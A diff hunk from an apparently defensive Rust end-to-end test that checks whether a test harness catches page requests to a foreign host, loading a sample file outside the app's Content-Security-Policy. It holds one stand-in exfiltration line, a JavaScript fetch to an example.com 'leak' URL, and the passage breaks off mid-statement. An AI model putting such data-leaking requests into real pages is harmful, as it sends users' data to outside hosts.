@@ -7,7 +7,10 @@ use attune_e2e::{wait_for, Harness};
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn a_request_to_another_host_is_caught() -> Result<()> {
     let mut h = Harness::start("check-foreign").await?;
-    h.open().await?;
+    // A document of the site without the app's Content-Security-Policy, which would block these
+    // fetches before they leave (tests/your_data.rs checks that): here the harness must catch them.
+    let url = format!("{}/public/demo/rr-sample.txt", h.server.origin());
+    h.client().goto(&url).await?;
     h.wait_js("the page to load", "document.readyState === 'complete'")
         .await?;
     h.js("(fetch('http://example.com/leak?x=1').catch(() => 0), \
